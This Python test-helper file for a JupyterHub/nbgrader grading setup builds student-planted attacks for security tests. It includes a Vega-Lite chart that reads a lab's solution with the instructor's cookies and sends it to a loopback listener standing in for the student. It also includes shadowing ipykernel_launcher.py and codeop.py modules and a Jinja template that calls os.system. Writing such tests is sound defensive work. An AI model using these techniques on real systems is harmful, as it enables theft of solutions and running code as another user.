"""What a student plants for the instructor to open or run, for tests/test_jupyterhub.py and
tests/test_lab_command.py: a notebook with a stored Vega-Lite chart that reads a lab's solution
with the opener's cookies, a loopback listener standing for the student's address, and files in
her collected folder that leave a mark (an absolute path) where they run as the instructor."""

import contextlib
import http.server
import threading
from urllib.parse import unquote

import nbformat

SHOWN_TEXT = "A chart of my results"  # the notebook's markdown: it was opened and drawn

# Her `ipykernel_launcher.py`: a kernel started in her folder by `python -m ipykernel_launcher`
# finds it first where the folder is on sys.path; it leaves its mark, then starts the real one.
HER_KERNEL_LAUNCHER = """import pathlib, runpy, sys
pathlib.Path({mark!r}).write_text("ran")
here = pathlib.Path(__file__).resolve().parent
sys.path[:] = [p for p in sys.path if pathlib.Path(p or ".").resolve() != here]
runpy.run_module("ipykernel_launcher", run_name="__main__", alter_sys=True)
"""
# What a kernel reports of its working folder, and whether that folder is on its sys.path.
WHERE_A_KERNEL_IMPORTS_FROM = """import json, os, pathlib, sys
here = pathlib.Path.cwd().resolve()
print(json.dumps({"cwd": str(here), "folder on sys.path": [
    p for p in sys.path if pathlib.Path(p or ".").resolve() == here]}))
"""
# For the instructor's own commands in her collected folder: nbconvert and nbgrader put the
# folder they run in first on sys.path themselves (PYTHONSAFEPATH or not), and nbconvert reads
# its templates from there. Her `codeop.py` (a module nbconvert's HTML highlighting imports
# after it starts) leaves a mark where it can (not from a sandbox), then stands in for the real
# one; her `lab/index.html.j2` (the template of `--to html`) calls Python from Jinja and leaves
# its own.
HER_CODEOP = """import importlib.util, pathlib, sys, sysconfig
try:
    pathlib.Path({mark!r}).write_text("ran")
except OSError:
    pass
_spec = importlib.util.spec_from_file_location(
    "codeop", pathlib.Path(sysconfig.get_path("stdlib")) / "codeop.py"
)
_real = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(_real)
sys.modules["codeop"] = _real
globals().update({{k: v for k, v in vars(_real).items() if not k.startswith("__")}})
"""
HER_TEMPLATE = "{{{{ cycler.__init__.__globals__.os.system('touch ' ~ {mark!r}) }}}}\n"


def her_chart(listener, lab, field="source"):
    """A notebook whose one stored output is a Vega-Lite chart that reads `lab`'s solution from
    the server (a path relative to grading/submitted/<student>/<lab>/) and sends each cell's
    `field` to `listener` (an http://host:port address) as an image's address."""
    spec = {
        "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
        "data": {
            "url": f"../../../../solutions/{lab}/{lab}.ipynb",
            "format": {"type": "json", "property": "cells"},
        },
        "transform": [{"calculate": f"'{listener}/seen?' + datum.{field}", "as": "u"}],
        "mark": {"type": "image", "width": 4, "height": 4},
        "encoding": {"url": {"field": "u", "type": "nominal"}},
    }
    output = nbformat.v4.new_output(
        "display_data",
        data={"application/vnd.vegalite.v5+json": spec, "text/plain": "<VegaLite chart>"},
    )
    return nbformat.v4.new_notebook(
        cells=[
            nbformat.v4.new_markdown_cell(SHOWN_TEXT),
            nbformat.v4.new_code_cell("results", outputs=[output], execution_count=1),
        ],
        metadata={
            "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}
        },
    )


@contextlib.contextmanager
def listening():
    """An HTTP listener on loopback standing for an address of the student's: (its URL, the
    paths it heard, decoded)."""
    heard = []

    class Listener(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 (http.server's name)
            heard.append(unquote(self.path))
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", heard
    finally:
        server.shutdown()
        server.server_close()
